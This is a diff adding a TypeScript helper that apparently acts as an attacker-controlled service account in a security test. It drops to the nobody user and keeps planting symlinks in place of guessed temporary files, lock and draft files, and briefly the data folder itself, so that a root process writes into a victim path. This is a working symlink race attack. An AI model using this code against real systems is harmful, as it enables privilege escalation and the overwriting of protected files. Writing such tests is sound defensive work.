@@ -1,0 +1,67 @@
+import { existsSync, readdirSync, renameSync, rmSync, symlinkSync } from 'node:fs'
+import { join } from 'node:path'
+
+const NOBODY = 65534
+/** What a program that is not careful would call its files. */
+const GUESSED = ['b.db.partial', 'production.db.restoring', 'all.csv.unfinished', 'b.db-journal', 'b.db.tmp']
+
+/**
+ * A process of its own: the account of a service that was taken over. Puts links in the place of whatever root makes in its
+ * folder, and now and then in the place of the folder, until it is ended. Prints how many it planted.
+ */
+function plant(folder: string, victim: string): void {
+  const data = join(folder, 'data')
+  for (let turn = 0, planted = 0; ; turn++) {
+    for (const name of [...GUESSED, ...namesIn(data)]) {
+      const isOurs = GUESSED.includes(name)
+      if (!isOurs && !/-draft-|-lock$/.test(name)) continue
+      if (exchange(join(data, name), join(victim, 'secret'), isOurs)) planted++
+    }
+    if (turn % 20 === 0 && exchangeForAMoment(data, victim)) planted++
+    if (turn % 20 === 0) process.stdout.write(`${planted}\n`)
+    // Now and then a command gets through: a store that is never open is no prey either.
+    Bun.sleepSync(turn % 40)
+  }
+}
+
+const namesIn = (folder: string): string[] => {
+  try {
+    return readdirSync(folder)
+  } catch {
+    return []
+  }
+}
+
+/** Whether a link is in the place of what was there, or of nothing. */
+function exchange(path: string, to: string, isGuess: boolean): boolean {
+  try {
+    if (existsSync(path)) {
+      if (isGuess) return false
+      renameSync(path, `${path}.taken`)
+    }
+    symlinkSync(to, path)
+    rmSync(`${path}.taken`, { recursive: true, force: true })
+    return true
+  } catch {
+    return false
+  }
+}
+
+function exchangeForAMoment(folder: string, to: string): boolean {
+  try {
+    renameSync(folder, `${folder}.own`)
+    symlinkSync(to, folder)
+    Bun.sleepSync(2)
+    rmSync(folder)
+    renameSync(`${folder}.own`, folder)
+    return true
+  } catch {
+    return false
+  }
+}
+
+const [folder = '', victim = ''] = process.argv.slice(2)
+process.setgroups?.([])
+process.setgid?.(NOBODY)
+process.setuid?.(NOBODY)
+plant(folder, victim)
